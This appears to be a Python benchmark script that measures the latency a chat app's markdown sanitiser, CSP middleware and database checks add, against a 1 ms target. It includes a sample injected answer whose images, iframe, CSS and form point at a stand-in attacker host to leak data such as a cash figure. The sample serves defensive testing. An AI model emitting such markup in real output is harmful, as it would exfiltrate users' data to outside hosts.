"""What holding the edges costs (issue 22, items 3 and 11). Prints a table; never part of the test suite.

    python benchmarks/bench_edges_render.py

1. The sanitiser's added cost per chat update: `to_gradio_messages` of a realistic turn's snapshot (9 steps with
   code and observations, a provenance-marked answer, the figures badge, a ticket card) while the last step streams
   (its text changes every update: a cache miss), with `safe_markdown` and without it. Per turn: 200 such updates.
2. The slow path: an injected answer (images, srcset, CSS, iframe, form) sanitised the first time, and again
   (cached).
3. The Content-Security-Policy middleware's added cost per request (pure ASGI, measured around a bare app).
4. The save-time size check (one indexed SUM per save) and the pending-ticket count (one COUNT per proposal).
Target for each added cost: ≤ 1 ms.
"""

from __future__ import annotations

import asyncio
import statistics
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

import chat.messages as messages  # noqa: E402
from chat.messages import ChatItem, to_gradio_messages  # noqa: E402
from safe_render import csp  # noqa: E402
from safe_render.markdown import _block_html, _cached, safe_markdown  # noqa: E402

STEP = ("I will fetch the quote and compute the 50-day average, then compare with RSI < 30.\n\n"
        "```python\nq = stock_quote(symbol=\"AAPL\")\nh = price_history(symbol=\"AAPL\", period=\"1y\")\n"
        "sma = h['close'].rolling(50).mean().iloc[-1]\nprint(q['price'], sma, q['price'] > sma)\n```\n\n"
        "**Observation**\n```text\n244.6 231.87 True\n```")
ANSWER = ("**AAPL** is at $244.60 (up 1.27%), above its 50-day average of "
          '<abbr title="Untraced: no tool output or printed result of this turn states this figure.">$231.80'
          "<sup>⚠</sup></abbr>.\n\n| symbol | price | 50-day |\n|---|---|---|\n| AAPL | 244.60 | 231.87 |\n\n"
          "- RSI(14) is 58: neither overbought nor oversold.\n- Volume 40.90M, near its average.\n\n"
          "*Information, not financial advice.*")
BADGE = "| figure | verdict | source | as of |\n|---|---|---|---|\n" + "\n".join(
    f"| ${240 + i}.60 | ✅ traced | trader · step 1 · `stock_quote`: price {240 + i}.6 | 2025-02-14 |"
    for i in range(12))
TICKET = ("**Order ticket `T-3F2A`** · Paper · built-in\n\nBUY 2 AAPL limit $250.00\n\n"
          "est. cost $500.00 · ✅ risk checks passed<br><sub>expires 15:05 UTC</sub>")
EVIL = "http://attacker.example"
INJECTED = (f"Cash below.\n\n![chart]({EVIL}/a.png?cash=100000)\n\n"
            f"Logo <img src=\"{EVIL}/i.png\" srcset=\"{EVIL}/s.png 2x\">"
            f"\n\n<p style=\"background:url({EVIL}/c.png)\">x</p>\n\n<iframe src=\"{EVIL}/f\"></iframe>\n\n"
            f"<form action=\"{EVIL}/f\"><input name=c value=1><button>Go</button></form>\n\n" + ANSWER)


def snapshot(stream_text: str) -> list[ChatItem]:
    items = [ChatItem(content="How is AAPL?", role="user")]
    for n in range(1, 9):
        items.append(ChatItem(content=STEP, title=f"🧠 Manager · step {n}", id=f"mgr-{n}", status="done",
                              duration=1.2, log="1,204 → 96 tokens", kind="step"))
    items.append(ChatItem(content=stream_text, title="🧠 Manager · step 9", id="mgr-9", status="pending",
                          kind="step"))
    items.append(ChatItem(content=TICKET, kind="ticket", id="ticket-1"))
    items.append(ChatItem(content=ANSWER.replace("<abbr", "<b").replace("</abbr>", "</b>"), id="final",
                          kind="final", display=ANSWER))
    items.append(ChatItem(content=BADGE, title="🔎 12 of 12 figures traced to tool output", id="figures",
                          status="done", kind="figures"))
    return items


STREAMED = "Thought: The quote is in; <b>now</b> I compare the price with its 50-day average. <code> "
CODE_STREAMED = "Thought: compare.\n\n```python\nif rsi<limit and sma>0:\n    print(1)\n```\n\nNext, the volume. "


def per_update(updates: int = 200, stream: str = STREAMED) -> tuple[list[float], list[float]]:
    """Seconds per `to_gradio_messages` of one snapshot, with the sanitiser and without."""
    words = (stream * 40).split(" ")
    texts = [" ".join(words[: 20 + i * 3]) for i in range(updates)]  # the streaming step grows every update
    timings = {}
    for label, sanitise in (("with", safe_markdown), ("without", lambda text: text)):
        messages.safe_markdown = sanitise
        _cached.cache_clear()
        _block_html.cache_clear()
        to_gradio_messages(snapshot("warm up"))
        runs = []
        for text in texts:
            items = snapshot(text)
            start = time.perf_counter()
            to_gradio_messages(items)
            runs.append(time.perf_counter() - start)
        timings[label] = runs
    messages.safe_markdown = safe_markdown
    return timings["with"], timings["without"]


def slow_path(runs: int = 50) -> tuple[float, float]:
    first = []
    for n in range(runs):
        _cached.cache_clear()
        _block_html.cache_clear()
        text = INJECTED + f"\n\n(run {n})"
        start = time.perf_counter()
        safe_markdown(text)
        first.append(time.perf_counter() - start)
    start = time.perf_counter()
    for _ in range(runs):
        safe_markdown(text)
    return statistics.median(first), (time.perf_counter() - start) / runs


def csp_per_request(requests: int = 20_000) -> float:
    async def bare(scope, receive, send):
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/html")]})
        await send({"type": "http.response.body", "body": b"ok"})

    async def sink(message):
        return None

    async def run(app) -> float:
        scope = {"type": "http", "method": "GET", "path": "/", "headers": []}
        start = time.perf_counter()
        for _ in range(requests):
            await app(scope, None, sink)
        return (time.perf_counter() - start) / requests

    wrapped = csp.ContentSecurityPolicy(bare)
    bare_s, wrapped_s = asyncio.run(run(bare)), asyncio.run(run(wrapped))
    return wrapped_s - bare_s


def store_checks(runs: int = 500) -> tuple[float, float]:
    from datetime import UTC, datetime

    from trading.tickets import TicketBook
    from workspace.db import Database
    from workspace.store import WorkspaceStore

    with tempfile.TemporaryDirectory() as tmp:
        store = WorkspaceStore(Database(Path(tmp) / "ws.sqlite3"), max_conversations=1000)
        workspace_id, _ = store.new_anonymous()
        for n in range(200):
            conversation = store.create_conversation(workspace_id, f"chat {n}").id
            store.save(workspace_id, conversation, [(i, "x" * 2000) for i in range(20)])
        start = time.perf_counter()
        for _ in range(runs):
            store.db.one("SELECT COALESCE(SUM(bytes), 0) FROM conversations WHERE workspace_id = ?", (workspace_id,))
        size_check = (time.perf_counter() - start) / runs
        book = TicketBook(Path(tmp) / "ledger.sqlite3", workspace="ws", account="acct", ttl_s=300)
        now = datetime.now(UTC).isoformat()
        start = time.perf_counter()
        for _ in range(runs):
            book._conn.execute("SELECT COUNT(*) FROM tickets WHERE workspace = ? AND account = ? AND status = ? "
                               "AND expires_at > ?", ("ws", "acct", "pending", now)).fetchone()
        ticket_check = (time.perf_counter() - start) / runs
        book.close()
    return size_check, ticket_check


def main() -> None:
    with_s, without_s = per_update()
    added = [a - b for a, b in zip(with_s, without_s, strict=True)]
    code_with, code_without = per_update(stream=CODE_STREAMED)
    code_added = [a - b for a, b in zip(code_with, code_without, strict=True)]
    first, cached = slow_path()
    csp_s = csp_per_request()
    size_s, ticket_s = store_checks()
    ms = 1000.0
    rows = [
        ("chat update, 13 items, streaming step changes (median)", statistics.median(with_s) * ms,
         statistics.median(without_s) * ms, statistics.median(added) * ms),
        ("chat update, p95", sorted(with_s)[int(len(with_s) * 0.95)] * ms,
         sorted(without_s)[int(len(without_s) * 0.95)] * ms, sorted(added)[int(len(added) * 0.95)] * ms),
        ("turn of 200 updates (total)", sum(with_s) * ms, sum(without_s) * ms, sum(added) * ms),
        ("update while code with `a<b` streams (slow path, median)", statistics.median(code_with) * ms,
         statistics.median(code_without) * ms, statistics.median(code_added) * ms),
        ("update while code with `a<b` streams, p95", sorted(code_with)[int(len(code_with) * 0.95)] * ms,
         sorted(code_without)[int(len(code_without) * 0.95)] * ms,
         sorted(code_added)[int(len(code_added) * 0.95)] * ms),
        ("injected answer, first time (slow path)", first * ms, 0.0, first * ms),
        ("injected answer, again (cached)", cached * ms, 0.0, cached * ms),
        ("CSP header, per HTTP request", csp_s * ms, 0.0, csp_s * ms),
        ("workspace size check, per save (200 conversations)", size_s * ms, 0.0, size_s * ms),
        ("pending-ticket count, per proposal", ticket_s * ms, 0.0, ticket_s * ms),
    ]
    print(f"{'measure':<55} {'with ms':>10} {'without ms':>11} {'added ms':>10}")
    for name, a, b, c in rows:
        print(f"{name:<55} {a:>10.3f} {b:>11.3f} {c:>10.3f}")
    print("target: added ≤ 1 ms per chat update, per request and per check")


if __name__ == "__main__":
    main()
